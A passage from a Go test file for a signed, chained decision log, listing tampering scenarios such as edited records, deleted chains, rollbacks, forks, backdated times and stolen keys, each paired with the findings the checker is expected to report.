package logbook

import (
	"bytes"
	"maps"
	"os"
	"path"
	"path/filepath"
	"slices"
	"strings"
	"testing"

	"dsa/decision"
	"dsa/decision/sshsig"
)

// An attack puts a damaged log on the shelf, and says what has to be found.
type attack struct {
	name   string
	threat string // a word for one of threats; none where nothing was done
	done   string
	make   func(x *exhibit)
	live   string // one of lives
}

// threats are the rows of the table in FORMAT.md, by the words that stand for them here.
var threats = map[string]string{
	"edit":       "a byte of a cover, signature or body changed",
	"inside":     "a record removed inside a chain",
	"tail":       "records removed at the end",
	"chain":      "a whole chain removed",
	"rollback":   "the log rolled back, by malice or from a backup",
	"order":      "a record inserted, or the order changed",
	"overwrite":  "a record overwritten by a sync tool or two clients",
	"rewrite":    "an author rewrites records that are not published yet",
	"fork":       "the same number signed twice",
	"views":      "different people are shown different logs",
	"time":       "a time set back or forward",
	"theft":      "a stolen key",
	"dishonest":  "a dishonest overseer, or one who was broken into",
	"denial":     `"I never signed that"`,
	"disposal":   "disposal as a cover-up",
	"guess":      "a disposed body guessed from its SHA-256",
	"replay":     "a record taken into another log, or one act passed off as another",
	"signature":  "a signature stripped or exchanged",
	"signers":    "`allowed_signers` changed",
	"false id":   "another log's id given to the reader",
	"torn":       "a torn or lost write, a full disk",
	"spelling":   "JSON tricks, odd UTF-8, CRLF",
	"names":      "links, path tricks, long names, huge files, names from elsewhere",
	"terminal":   "codes for a terminal or a spreadsheet in a body",
	"rot":        "bit rot",
	"algorithms": "SHA-256 or Ed25519 broken",
}

// The limits, in the words of FORMAT.md where it has any.
const (
	untilCovered  = "Records made since the newest checkpoint can be cut from the end of a chain; the author's own copy has them."
	nothingKept   = "Nobody who looks here has kept a receipt, or anything later."
	oneInterval   = "A time is a claim; it is only known to lie between the checkpoint its author had seen and the first that covers it."
	allTogether   = "An overseer does what overseers may; the log shows who did it, and lists it."
	whoKnows      = "Who sat at the keyboard, and whose hand had the key."
	notAdmittedIs = "A chain that nobody admitted and no checkpoint covers can vanish."
)

// damaged is for attacks on one file, of a chain that no log knows yet: what is found does not depend on any log.
func damaged(code Code, change func(sc *shelfLog)) func(*exhibit) {
	return func(x *exhibit) {
		sc := aloneLog(x)
		change(sc)
		x.show(sc)
		x.blind(at(code, sc.sam.all[1]))
	}
}

var attacks = []attack{
	{name: "untouched", done: "Nothing. A pair of chains with two decisions, all under a checkpoint.", make: func(x *exhibit) {
		sc := coveredLog(x)
		x.show(sc)
		x.look(sc).receipts(sc.lead.all[3].receipt())
		x.blind()
	}},
	{name: "untouched-in-a-second-log", done: "Nothing. Sam belongs to two logs, and has seen a checkpoint of the first, which stands there and not here.", make: func(x *exhibit) {
		sc := bareLog(x)
		sc.sam.decides(func(c *decision.Cover) { c.Seen = decision.ID{1, 2, 3} })
		x.show(sc)
		x.look(sc).noted(NoCheckpoint, SeenElsewhere)
	}},

	// One byte, or a few.
	{name: "body-changed", threat: "edit", done: "A word in the body of Sam's decision was changed.",
		make: damaged(ChangedBody, func(sc *shelfLog) { sc.replace(sc.sam.all[1], "We hold nothing.", "We hold a thing.") })},
	{name: "body-longer", threat: "edit", done: "A line was added after the body.",
		make: damaged(ChangedBody, func(sc *shelfLog) { f := sc.sam.all[1]; sc.files[f.path] = append(bytes.Clone(f.data), "so\n"...) })},
	{name: "cover-time-changed", threat: "edit", done: "The time on a cover was set a day back.",
		make: damaged(ChangedCover, func(sc *shelfLog) { sc.replace(sc.sam.all[1], "time 2026-02-05", "time 2026-02-04") })},
	{name: "cover-keep-until-changed", threat: "edit", done: "The day until which a record is kept was set back, so that it seems due.",
		make: damaged(ChangedCover, func(sc *shelfLog) { sc.replace(sc.sam.all[1], "keep-until 2034", "keep-until 2024") })},
	{name: "cover-kind-changed", threat: "edit", done: "A decision was made a review of another record.",
		make: damaged(ChangedCover, func(sc *shelfLog) {
			sc.replace(sc.sam.all[1], "kind decision\nabout -", "kind review\nabout "+sc.sam.id.String())
		})},
	{name: "signature-changed", threat: "edit", done: "One sign of a signature was changed.",
		make: damaged(BadSignature, func(sc *shelfLog) {
			_, signature, _ := sc.sam.all[1].parts()
			old := string(signature[150:160])
			sc.replace(sc.sam.all[1], old, swapCase(old))
		})},
	{name: "body-changed-with-its-digest", threat: "edit", done: "The body was changed, and the digest on the cover with it; the file kept its name.",
		make: damaged(ChangedCover, func(sc *shelfLog) { f := forgedBody(sc); sc.files[sc.sam.all[1].path] = f.data })},
	{name: "body-changed-with-digest-and-name", threat: "edit", done: "The body was changed, the digest on the cover with it, and the file was given the name of the new cover.", make: func(x *exhibit) {
		sc := oneLog(x).pointed()
		f, was := forgedBody(sc), sc.sam.all[1]
		sc.remove(was)
		f.lay()
		x.show(sc)
		x.look(sc, at(BadSignature, f), at(CoveredMissing, was))
	}},

	// Gone from the middle.
	{name: "record-removed-inside", threat: "inside", done: "Sam's decision number 1 was deleted.",
		make: damaged(Missing, func(sc *shelfLog) { sc.remove(sc.sam.all[1]) })},
	{name: "record-removed-and-the-rest-signed-anew", threat: "inside", done: "Sam took out decision 1 and signed what followed anew, so that the chain closes up.", make: func(x *exhibit) {
		sc := coveredLog(x)
		was := sc.sam.all
		sc.remove(was[1:]...)
		sc.sam.all = was[:1:1]
		sc.sam.decides()
		x.show(sc)
		x.look(sc, at(CoveredMissing, was[2]))
	}},
	{name: "founding-record-removed", threat: "inside", done: "The record that founds the log was deleted.", make: func(x *exhibit) {
		sc := oneLog(x).pointed()
		sc.remove(sc.lead.all[1])
		x.show(sc)
		x.look(sc, at(Missing, sc.lead.all[1]), shelfRow{Code: string(NoFounding), Number: -1})
		x.blind(at(Missing, sc.lead.all[1]))
	}},

	{name: "link-broken", threat: "inside", done: "Sam signed a decision that names another record as the one before it.", make: func(x *exhibit) {
		sc := oneLog(x)
		f := sc.sam.decides(func(c *decision.Cover) { c.Previous = decision.ID{6} })
		x.show(sc)
		x.look(sc, at(BrokenLink, f)).noted(NoCheckpoint)
	}},
	{name: "numbers-left-out", threat: "inside", done: "Sam signed number 9,999,999 after number 1.", make: func(x *exhibit) {
		sc := aloneLog(x)
		sc.sam.decides(func(c *decision.Cover) { c.Number = decision.MaxNumber })
		x.show(sc)
		x.blind(atNumber(Missing, sc.sam, 3, ""))
	}},
	{name: "opening-removed", threat: "inside", done: "The opening of Sam's chain was deleted.", make: func(x *exhibit) {
		sc := oneLog(x)
		sc.remove(sc.sam.all[0])
		x.show(sc)
		x.look(sc, at(Missing, sc.sam.all[0])).noted(NoCheckpoint)
	}},
	{name: "opening-removed-and-a-stranger-let-in", threat: "inside", done: "The opening of Sam's chain was deleted, and a number 1 of Max's put beside Sam's; the log knows Sam's key.", make: func(x *exhibit) {
		sc := oneLog(x)
		var f *folio
		for f == nil || f.path > sc.sam.all[1].path { // the one that is looked at first
			f = sc.sam.draft(1, decision.Decision, sc.sam.deciding(1))
			_, _, text := f.parts()
			f = sc.sam.sign(sc.max.signer, sshsig.Decision, f.cover, text)
		}
		f.lay()
		sc.remove(sc.sam.all[0])
		x.show(sc)
		x.look(sc, at(Missing, sc.sam.all[0]), at(WrongKey, f)).noted(NoCheckpoint)
	}},

	// Gone from the end.
	{name: "tail-cut-under-a-checkpoint", threat: "tail", done: "Sam's last decision, which a checkpoint covers, was deleted.",
		make: func(x *exhibit) {
			sc := oneLog(x).pointed()
			sc.remove(sc.sam.all[1])
			x.show(sc)
			x.look(sc, at(CoveredMissing, sc.sam.all[1]))
			x.blind(at(CoveredMissing, sc.sam.all[1]))
		}},
	{name: "tail-cut-after-the-checkpoint", threat: "tail", done: "Sam's newest decision, made since the checkpoint, was deleted from the share; Sam's own copy has it.", make: func(x *exhibit) {
		sc := oneLog(x).pointed()
		last := sc.sam.decides()
		x.put("laptop", sc.only(sc.sam))
		sc.remove(last)
		x.show(sc)
		x.look(sc).unseen(untilCovered)
		x.look(sc).in("log", "laptop").noted(NotCovered)
	}},
	{name: "closing-cut-off", threat: "tail", done: "The lead closed Sam's chain after the key was stolen; the thief deleted that record, and signed another decision.", make: func(x *exhibit) {
		sc := oneLog(x).pointed()
		closing := sc.lead.closes(sc.sam.all[1])
		sc.sam.decides()
		sc.remove(closing)
		x.show(sc)
		x.look(sc).noted(NotCovered).unseen(untilCovered + " So a closing, or a hold, is safe only once a checkpoint covers it.")
	}},
	{name: "closing-cut-off-under-a-checkpoint", threat: "tail", done: "The same, after the second lead made a checkpoint.", make: func(x *exhibit) {
		sc := oneLog(x).joined()
		closing := sc.lead.closes(sc.sam.all[1])
		sc.second.points()
		sc.sam.decides()
		sc.remove(closing)
		x.show(sc)
		x.look(sc, at(CoveredMissing, closing)).noted(NotCovered)
	}},
	{name: "checkpoint-cut-off", threat: "tail", done: "The newest checkpoint was deleted with the decision that it covered; Alex had recorded something since.", make: func(x *exhibit) {
		sc := oneLog(x).joined().staffed().pointed()
		cut := sc.sam.decides()
		point := sc.second.points()
		after := sc.alex.decides()
		sc.remove(cut, point)
		x.show(sc)
		x.look(sc, at(SeenMissing, after)).noted(NotCovered)
		x.look(sc, at(RolledBack, point), at(SeenMissing, after)).receipts(point.receipt()).noted(NotCovered)
		x.blind().noted(NotCovered, SeenElsewhere).unseen("Without the log's id it is not known that the checkpoint should stand here.")
	}},

	// A whole chain.
	{name: "chain-removed-covered", threat: "chain", done: "Alex's chain, which a checkpoint covers, was deleted with its folder.", make: func(x *exhibit) {
		sc := oneLog(x).staffed().pointed()
		sc.removeChain(sc.alex)
		x.show(sc)
		x.look(sc, atNumber(CoveredMissing, sc.alex, 0, ""))
		x.blind(atNumber(CoveredMissing, sc.alex, 0, ""))
	}},
	{name: "chain-removed-admitted", threat: "chain", done: "Alex's chain, which the log admits and no checkpoint covers yet, was deleted with its folder.", make: func(x *exhibit) {
		sc := emptiedLog(x)
		x.show(sc)
		x.look(sc, atChain(AdmittedMissing, sc.alex)).noted(NotCovered)
	}},
	{name: "chain-emptied", threat: "chain", live: "chain-emptied", done: "The same, but Alex's folder was left there, without a file in it.", make: func(x *exhibit) {
		sc := emptiedLog(x)
		x.show(sc)
		x.look(sc, atChain(AdmittedMissing, sc.alex)).noted(NotCovered, EmptyFolder)
	}},
	{name: "chain-emptied-but-for-a-leftover", threat: "chain", done: "The same, with a temporary file in the folder, as a writer leaves one that was stopped.", make: func(x *exhibit) {
		sc := emptiedLog(x)
		sc.files[sc.alex.folder()+"/0000/.tmp-0123456789abcdef"] = []byte("dsa-record 1\n")
		x.show(sc)
		x.look(sc, atChain(AdmittedMissing, sc.alex)).noted(NotCovered, EmptyFolder, Temporary)
	}},
	{name: "chain-removed-that-nobody-admitted", threat: "chain", done: "Alex had begun a chain that nobody had admitted; it was deleted.", make: func(x *exhibit) {
		sc := oneLog(x).pointed()
		sc.alex.opens()
		x.put("laptop", sc.only(sc.alex))
		sc.removeChain(sc.alex)
		x.show(sc)
		x.look(sc).unseen(notAdmittedIs)
		x.look(sc, atChain(NotAdmitted, sc.alex).of("laptop")).in("log", "laptop")
	}},
	{name: "founders-chain-removed", threat: "chain", done: "The chain of the second founder, which no checkpoint covers, was deleted.", make: func(x *exhibit) {
		sc := oneLog(x).pointed()
		sc.second.opens()
		sc.second.holds(sc.sam.all[1])
		sc.removeChain(sc.second)
		x.show(sc)
		x.look(sc).unseen("The founding record names keys and not chains, so that a founder's chain is missed only once a checkpoint covers it.")
	}},
	{name: "founders-chain-removed-covered", threat: "chain", done: "The same, under a checkpoint of the first founder.", make: func(x *exhibit) {
		sc := oneLog(x).joined()
		sc.lead.points()
		sc.removeChain(sc.second)
		x.show(sc)
		x.look(sc, atNumber(CoveredMissing, sc.second, 0, ""))
	}},

	// The share put back.
	{name: "share-rolled-back", threat: "rollback", done: "The whole share was put back to how it was before the newest checkpoint.", make: func(x *exhibit) {
		sc := oneLog(x).pointed()
		x.show(sc)
		sc.sam.decides()
		newest := sc.lead.points()
		x.look(sc, at(RolledBack, newest)).receipts(newest.receipt())
		x.blind(at(RolledBack, newest)).receipts(newest.receipt())
		x.look(sc).receipts(sc.lead.all[3].receipt()).unseen("An older receipt shows nothing that is later than it.")
		x.look(sc).unseen(nothingKept)
	}},
	{name: "share-rolled-back-under-an-author", threat: "rollback", done: "The same; then Sam, who had seen the checkpoint that is gone, published again.", make: func(x *exhibit) {
		sc := oneLog(x).pointed()
		sc.sam.decides()
		newest := sc.lead.points()
		after := sc.sam.decides()
		sc.remove(newest)
		x.show(sc)
		x.look(sc, at(SeenMissing, after)).noted(NotCovered)
	}},
	{name: "receipts-that-never-were", threat: "rollback", done: "Receipts are shown that nobody ever gave: of a chain, of a number, of another record, of a record that is no checkpoint.", make: func(x *exhibit) {
		sc := oneLog(x).pointed()
		x.show(sc)
		other := decision.ID{1, 2, 3}
		at3 := decision.Receipt{Log: sc.log, Chain: sc.lead.id, Number: 3, ID: other}
		none := decision.Receipt{Log: sc.log, Chain: other, Number: 9, ID: decision.ID{4}}
		x.look(sc, shelfRow{Code: string(RolledBack), Chain: decision.ChainFolder(other), Number: 9, File: recordPath(other, 9, none.ID, false)}).receipts(none.String())
		far := decision.Receipt{Log: sc.log, Chain: sc.lead.id, Number: 9_999_999, ID: other}
		x.look(sc, atNumber(RolledBack, sc.lead, far.Number, recordPath(far.Chain, far.Number, other, false))).receipts(far.String())
		x.look(sc, at(ReceiptDiffers, sc.lead.all[3])).receipts(at3.String())
		x.look(sc, at(ReceiptDiffers, sc.lead.all[2])).receipts(sc.lead.all[2].receipt())
	}},

	// Inserted, or in another order.
	{name: "inserted-with-another-key", threat: "order", done: "Max signed a decision as the next of Sam's chain.", make: func(x *exhibit) {
		sc := aloneLog(x)
		f := sc.sam.drafts()
		_, _, text := f.parts()
		f = sc.sam.sign(sc.max.signer, sshsig.Decision, f.cover, text).lay()
		x.show(sc)
		x.blind(at(WrongKey, f))
	}},
	{name: "inserted-as-a-copy", threat: "order", done: "Sam's first decision was copied to the end of the chain, under a number of its own.", make: func(x *exhibit) {
		sc := aloneLog(x)
		f := *sc.sam.all[1]
		f.number, f.path = 3, recordPath(sc.sam.id, 3, f.id, false)
		f.lay()
		x.show(sc)
		x.blind(at(WrongName, &f))
	}},
	{name: "order-changed", threat: "order", done: "The files of Sam's two decisions changed places.", make: func(x *exhibit) {
		sc := aloneLog(x)
		a, b := sc.sam.all[1], sc.sam.all[2]
		sc.files[a.path], sc.files[b.path] = b.data, a.data
		x.show(sc)
		x.blind(at(WrongName, a), at(WrongName, b))
	}},
	{name: "moved-to-another-chain", threat: "order", done: "Sam's newest decision was moved into the lead's chain, as its next.", make: func(x *exhibit) {
		sc := oneLog(x).pointed()
		f := *sc.sam.decides()
		sc.remove(&f)
		f.number, f.path = 4, recordPath(sc.lead.id, 4, f.id, false)
		f.lay()
		x.show(sc)
		x.look(sc, atNumber(WrongChain, sc.lead, 4, f.path))
	}},

	// Overwritten.
	{name: "overwritten", threat: "overwrite", done: "A program that copies by number wrote one decision over the file of another.",
		make: func(x *exhibit) {
			sc := aloneLog(x)
			sc.files[sc.sam.all[2].path] = sc.sam.all[1].data
			x.show(sc)
			x.blind(at(WrongName, sc.sam.all[2]))
		}},
	{name: "conflicting-copy", threat: "overwrite", done: "A program that synchronises folders left a second copy under a name of its own.", make: func(x *exhibit) {
		sc := aloneLog(x)
		name := strings.Replace(sc.sam.all[1].path, ".record", " (conflicted copy 2026-02-05).record", 1)
		sc.files[name] = sc.sam.all[1].data
		x.show(sc)
		x.blind(atFile(Stray, sc.sam, name))
	}},

	// An author's own tail.
	{name: "own-tail-rewritten", threat: "rewrite", done: "Sam made decision 2, put an older copy of the folder back, and made another decision 2.", make: func(x *exhibit) {
		sc := oneLog(x).pointed()
		first := sc.sam.decides()
		x.put("laptop", sc.only(sc.sam))
		second := sc.sam.instead(first)
		sc.remove(first)
		x.show(sc)
		x.look(sc).noted(NotCovered).unseen("Nobody had seen the first one.")
		x.look(sc, at(Fork, second).of("log"), at(Fork, first).of("laptop")).in("log", "laptop").noted(NotCovered)
	}},
	{name: "covered-tail-rewritten", threat: "rewrite", done: "The same with decision 1, which a checkpoint covers.", make: func(x *exhibit) {
		sc := oneLog(x).pointed()
		second := sc.sam.instead(sc.sam.all[1])
		sc.remove(sc.sam.all[1])
		x.show(sc)
		x.look(sc, at(CoveredDiffers, second))
		x.blind(at(CoveredDiffers, second))
	}},

	// Forks.
	{name: "forked", threat: "fork", done: "Sam's key signed number 2 twice, on two computers.", make: func(x *exhibit) {
		sc := oneLog(x).pointed()
		a := sc.sam.decides()
		b := sc.sam.instead(a)
		x.show(sc)
		x.look(sc, at(Fork, a), at(Fork, b)).noted(NotCovered)
	}},
	{name: "forked-in-two-folders", threat: "fork", done: "The same, each in a folder of its own.", make: func(x *exhibit) {
		sc := oneLog(x).pointed()
		a := sc.sam.decides()
		x.show(sc)
		b := sc.sam.instead(a)
		sc.remove(a)
		x.put("other", sc.only(sc.sam))
		x.look(sc).noted(NotCovered)
		x.look(sc, at(Fork, a).of("log"), at(Fork, b).of("other")).in("log", "other").noted(NotCovered)
	}},
	{name: "forked-under-a-checkpoint", threat: "fork", done: "Number 1 was signed again after a checkpoint had covered it: that says which was there first.", make: func(x *exhibit) {
		sc := oneLog(x).pointed()
		b := sc.sam.instead(sc.sam.all[1])
		x.show(sc)
		x.look(sc, at(Fork, sc.sam.all[1]), at(Fork, b))
	}},
	{name: "forked-and-settled", threat: "fork", done: "A fork that a lead has settled with a rule. Nothing is wrong here.", make: func(x *exhibit) {
		sc := oneLog(x).pointed()
		a := sc.sam.decides()
		sc.sam.instead(a)
		sc.lead.rules(2, a)
		x.show(sc)
		x.look(sc).noted(ClosedChain, ForkSettled, NotCovered)
	}},
	{name: "forked-and-settled-by-nobody", threat: "fork", done: "Sam settled the fork of the own chain with a rule, for which a decider has no authority.", make: func(x *exhibit) {
		sc := oneLog(x).pointed()
		a := sc.sam.decides()
		b := sc.sam.instead(a)
		rule := sc.sam.rules(2, a)
		x.show(sc)
		x.look(sc, at(Fork, a), at(Fork, b), at(NoAuthority, rule)).noted(NotCovered)
	}},
	{name: "set-aside-and-then-removed", threat: "fork", done: "A fork was settled after the checkpoint, and the record that was set aside deleted.", make: func(x *exhibit) {
		sc := oneLog(x).pointed()
		a := sc.sam.decides()
		b := sc.sam.instead(a)
		sc.lead.rules(2, a)
		sc.lead.points()
		sc.remove(b)
		x.show(sc)
		x.look(sc).noted(ClosedChain).unseen("A rule names the branch that stands, and a checkpoint covers that alone: nothing misses the other one.")
	}},
	{name: "settled-and-then-removed", threat: "fork", done: "The branch that a rule had set aside, and that a checkpoint covers, was deleted.", make: func(x *exhibit) {
		sc := oneLog(x).pointed()
		a := sc.sam.all[1]
		b := sc.sam.instead(a)
		sc.lead.rules(1, b)
		sc.remove(a)
		x.show(sc)
		x.look(sc, at(CoveredDiffers, b)).noted(ClosedChain, NotCovered)
	}},

	// Two logs shown.
	{name: "two-views", threat: "views", done: "The share shows each lead another log: Sam signed number 2 twice, and each lead made a checkpoint of one.", make: func(x *exhibit) {
		view := func(with string) (sc *shelfLog, a, point *folio) {
			sc = oneLog(x).joined()
			a = sc.sam.decides()
			if with == "other" {
				sc.remove(a)
				b := sc.sam.instead(a)
				sc.sam.all[2] = b
				return sc, b, sc.second.points()
			}
			sc.minute++
			return sc, a, sc.lead.points()
		}
		sc, a, first := view("log")
		x.show(sc)
		other, b, second := view("other")
		x.put("other", other.files)
		x.look(sc).receipts(first.receipt())
		x.look(sc).in("other").receipts(second.receipt())
		x.look(sc, at(RolledBack, second)).receipts(first.receipt(), second.receipt())
		x.look(sc, at(RolledBack, first)).in("other").receipts(first.receipt(), second.receipt())
		x.look(sc, at(Fork, a).of("log"), at(Fork, b).of("other")).in("log", "other")
	}},
	{name: "two-views-of-one-lead", threat: "views", done: "A lead who is not honest shows two logs: each with another checkpoint of the same number.", make: func(x *exhibit) {
		sc := oneLog(x)
		a := sc.lead.points()
		x.show(sc)
		again := oneLog(x)
		again.sam.decides()
		b := again.lead.points()
		x.put("other", again.files)
		x.look(sc, at(ReceiptDiffers, a)).receipts(b.receipt())
		x.look(sc, at(ReceiptDiffers, b)).in("other").receipts(a.receipt())
		// Taken together, the one whose id comes later begins again where the other one ended.
		later := at(BadCheckpoint, a).of("log")
		if bytes.Compare(b.id[:], a.id[:]) > 0 {
			later = at(BadCheckpoint, b).of("other")
		}
		x.look(sc, at(Fork, a).of("log"), at(Fork, b).of("other"), later).in("log", "other").noted(NotCovered)
	}},

	// Times.
	{name: "backdated", threat: "time", done: "Sam had seen a checkpoint, and gave the next decision a time three hours before it.", make: func(x *exhibit) {
		sc := oneLog(x).pointed()
		f := sc.sam.decides(claims(-3 * hour))
		x.show(sc)
		x.look(sc, at(TimeOutside, f)).noted(TimeBack, NotCovered)
	}},
	{name: "postdated", threat: "time", done: "Sam gave a decision the time of the next day; a checkpoint of today covers it.", make: func(x *exhibit) {
		sc := oneLog(x).pointed()
		f := sc.sam.decides(claims(day))
		sc.lead.points()
		x.show(sc)
		x.look(sc, at(TimeOutside, f))
		x.blind(at(TimeOutside, f))
	}},
	{name: "backdated-without-having-seen", threat: "time", done: "Sam did not look at the newest checkpoint, and gave a decision a time three weeks before it.", make: func(x *exhibit) {
		sc := oneLog(x).pointed()
		old := sc.lead.all[3]
		sc.later(30 * day)
		sc.second.opens()
		sc.lead.points()
		sc.sam.decides(sees(old), claims(9*day))
		sc.lead.points()
		x.show(sc)
		x.look(sc).unseen(oneInterval + " Who does not look at checkpoints chooses how long ago the first of these is.")
	}},
	{name: "backdated-behind-the-other-lead", threat: "time", done: "Sam's decision 2 had seen the lead's newest checkpoint; decision 3 names the second lead's, which is weeks older, and a time in between.", make: func(x *exhibit) {
		sc := oneLog(x).joined()
		older := sc.second.points()
		sc.later(30 * day)
		sc.lead.points()
		sc.sam.decides()
		f := sc.sam.decides(sees(older), claims(9*day))
		sc.lead.points()
		x.show(sc)
		x.look(sc, at(TimeOutside, f)).noted(TimeBack)
	}},
	{name: "postdated-behind-an-ancient-opening", threat: "time", done: "Sam's chain begins in the year 1, and its first decision claims to be of 2099; a checkpoint of 2026 covers both.", make: func(x *exhibit) {
		sc := newShelfLog(x)
		sc.lead.opens()
		sc.lead.founds("Fen partnership", sc.lead, sc.second)
		sc.sam.opens(func(c *decision.Cover) { c.Time = c.Time.AddDate(1-2026, 0, 0) })
		sc.lead.admits(decider, sc.sam)
		f := sc.sam.decides(func(c *decision.Cover) { c.Time = c.Time.AddDate(73, 0, 0) })
		sc.lead.points()
		x.show(sc)
		x.look(sc, at(TimeOutside, f))
	}},
	{name: "seen-put-back", threat: "time", done: "Sam had seen the newest checkpoint, and named an older one of the same lead in the next record.", make: func(x *exhibit) {
		sc := oneLog(x).pointed()
		old := sc.lead.all[3]
		sc.second.opens()
		sc.lead.points()
		sc.sam.decides()
		f := sc.sam.decides(sees(old))
		x.show(sc)
		x.look(sc, at(SeenBack, f)).noted(NotCovered)
	}},
	{name: "seen-taken-away", threat: "time", done: "The same, naming none.", make: func(x *exhibit) {
		sc := oneLog(x).pointed()
		sc.sam.decides()
		f := sc.sam.decides(sees(nil))
		x.show(sc)
		x.look(sc, at(SeenBack, f)).noted(NotCovered)
	}},
	{name: "seen-that-never-was", threat: "time", done: "Sam claims to have seen a checkpoint that nobody made.", make: func(x *exhibit) {
		sc := oneLog(x).pointed()
		f := sc.sam.decides(func(c *decision.Cover) { c.Seen = decision.ID{7} })
		x.show(sc)
		x.look(sc, at(SeenMissing, f)).noted(NotCovered)
		x.blind().noted(NotCovered, SeenElsewhere)
	}},

	// Stolen keys.
	{name: "stolen-key-after-closing", threat: "theft", done: "Sam's chain was closed at number 1; whoever has the key signed number 2.", make: func(x *exhibit) {
		sc := oneLog(x).pointed()
		sc.lead.closes(sc.sam.all[1])
		f := sc.sam.decides()
		x.show(sc)
		x.look(sc, at(AfterClosing, f)).noted(ClosedChain, NotCovered)
		x.blind().noted(NotCovered).unseen("Without the log's id nobody's closing is believed.")
	}},
	{name: "stolen-key-backdated", threat: "theft", done: "The same, with a time before the closing.", make: func(x *exhibit) {
		sc := oneLog(x).pointed()
		sc.later(30)
		sc.lead.closes(sc.sam.all[1])
		f := sc.sam.decides(claims(20))
		x.show(sc)
		x.look(sc, at(AfterClosing, f)).noted(ClosedChain, NotCovered)
	}},
	{name: "stolen-key-before-closing", threat: "theft", done: "The thief signed number 2, and the chain was closed at that number by mistake.", make: func(x *exhibit) {
		sc := oneLog(x).pointed()
		sc.lead.closes(sc.sam.decides())
		x.show(sc)
		x.look(sc).noted(ClosedChain, NotCovered).unseen("Records between theft and closing: people have to say which are whose.")
	}},
	{name: "stolen-key-in-the-place-of-an-older-record", threat: "theft", done: "The chain was closed at number 1; the thief deleted that record and signed another number 1.", make: func(x *exhibit) {
		sc := oneLog(x)
		sc.lead.closes(sc.sam.all[1])
		f := sc.sam.instead(sc.sam.all[1])
		sc.remove(sc.sam.all[1])
		x.show(sc)
		x.look(sc, at(ClosingDiffers, f)).noted(ClosedChain, NoCheckpoint)
	}},
	{name: "stolen-key-begins-a-second-chain", threat: "theft", done: "After the closing the thief began a new chain with the same key.", make: func(x *exhibit) {
		sc := oneLog(x).pointed()
		sc.lead.closes(sc.sam.all[1])
		again := *sc.sam
		again.all = nil
		f := again.opens()
		x.show(sc)
		x.look(sc, twoChains(sc.sam.all[0], f), atChain(NotAdmitted, &again)).noted(ClosedChain, NotCovered)
	}},
	{name: "stolen-founding-key-begins-a-second-chain", threat: "theft", done: "The second founder closed the chain of the first, whose key was stolen; the thief began a new chain with that key, and admitted Max in it.", make: func(x *exhibit) {
		sc := oneLog(x).joined()
		sc.second.closes(sc.lead.all[2])
		sc.second.points()
		sc.max.opens()
		again := *sc.lead
		again.all = nil
		f := again.opens()
		act := again.admits(decider, sc.max)
		x.show(sc)
		x.look(sc, twoChains(sc.lead.all[0], f), atChain(NotAdmitted, &again), at(NoAuthority, act), atChain(NotAdmitted, sc.max)).noted(ClosedChain)
	}},
	{name: "stolen-founding-key-ends-everything", threat: "theft", done: "Whoever has the second founding key closed the first founder's chain at number 0.", make: func(x *exhibit) {
		sc := oneLog(x).joined()
		sc.second.closes(sc.lead.all[0])
		x.show(sc)
		x.look(sc, at(AfterClosing, sc.lead.all[1]), at(AfterClosing, sc.lead.all[2]), atChain(NotAdmitted, sc.sam)).noted(ClosedChain, NoCheckpoint)
	}},
	{name: "stolen-overseers-key-admits", threat: "theft", done: "Alex, who oversees, was closed at number 0; whoever has the key admitted Max.", make: func(x *exhibit) {
		sc := oneLog(x).staffed().pointed()
		sc.lead.closes(sc.alex.all[0])
		sc.max.opens()
		f := sc.alex.admits(overseer, sc.max)
		sc.lead.points()
		x.show(sc)
		x.look(sc, at(AfterClosing, f), atChain(NotAdmitted, sc.max)).noted(ClosedChain)
	}},
	{name: "seen-from-an-overseer-since-closed", threat: "theft", done: "Sam had seen an honest checkpoint of Alex's; then it turned out that the key was stolen before, and the chain was closed. Sam did nothing wrong.", make: func(x *exhibit) {
		sc := oneLog(x).staffed().pointed()
		point := sc.alex.points()
		sc.sam.decides()
		sc.lead.closes(sc.alex.all[0], sees(sc.lead.all[4]))
		x.show(sc)
		x.look(sc, at(AfterClosing, point)).noted(ClosedChain, NotCovered)
	}},

	// Overseers: trust.
	{name: "overseer-closes-a-founder", threat: "dishonest", done: "Alex, whom the lead admitted as an overseer, closed the lead's chain.", make: func(x *exhibit) {
		sc := bareLog(x).staffed().pointed()
		f := sc.alex.closes(sc.lead.all[4])
		x.show(sc)
		x.look(sc, at(NoAuthority, f)).noted(NotCovered)
	}},
	{name: "overseer-closes-an-equal", threat: "dishonest", done: "Alex closed the chain of Max, another overseer whom the lead had admitted.", make: func(x *exhibit) {
		sc := bareLog(x).staffed().pointed()
		sc.max.opens()
		sc.lead.admits(overseer, sc.max)
		f := sc.alex.closes(sc.max.all[0])
		x.show(sc)
		x.look(sc, at(NoAuthority, f)).noted(NotCovered)
	}},
	{name: "overseer-takes-a-closing-back", threat: "dishonest", done: "The lead closed Sam's chain, which the second lead's checkpoint covers; then forked the own chain at that number, and settled the fork with an own rule, so that the closing is set aside. Sam's key signed on.", make: func(x *exhibit) {
		sc := oneLog(x).joined()
		closing := sc.lead.closes(sc.sam.all[1])
		sc.second.points()
		other := sc.lead.draft(closing.number, decision.Hold, sc.lead.holding(sc.sam.all[1]), func(c *decision.Cover) { c.Previous = closing.cover.Previous }).lay()
		sc.lead.all[closing.number] = other
		rule := sc.lead.rules(other.number, other)
		after := sc.sam.decides()
		x.show(sc)
		x.look(sc, at(Fork, closing), at(Fork, other), at(NoAuthority, rule), at(AfterClosing, after)).noted(ClosedChain, NotCovered)
	}},
	{name: "overseer-sets-a-covered-record-aside", threat: "dishonest", done: "Sam signed number 1 twice. The lead made a checkpoint of one, and later a rule that the other stands.", make: func(x *exhibit) {
		sc := oneLog(x).pointed()
		other := sc.sam.instead(sc.sam.all[1])
		sc.lead.rules(1, other)
		x.show(sc)
		x.look(sc).noted(ClosedChain, ForkSettled, NotCovered).unseen("Both are here, and the checkpoint says which was there first; that the rule chose the other one is not pointed out.")
	}},
	{name: "authority-given-afterwards", threat: "dishonest", done: "Sam, who only decided, disposed of a decision; later the lead admitted Sam as an overseer.", make: func(x *exhibit) {
		sc := oneLog(x).pointed()
		sc.later(due)
		sc.sam.disposes(decision.DisposeAct{}, sc.sam.all[1:2])
		sc.strip(sc.sam.all[1])
		sc.lead.admits(overseer, sc.sam)
		x.show(sc)
		x.look(sc).noted(NotCovered).unseen("Who is admitted is admitted with the whole chain, and what was done before counts as well.")
	}},
	{name: "founders-close-each-other", threat: "dishonest", done: "Each founder closed the other's chain before the other's closing.", make: func(x *exhibit) {
		sc := bareLog(x).joined()
		a := sc.lead.closes(sc.second.all[0])
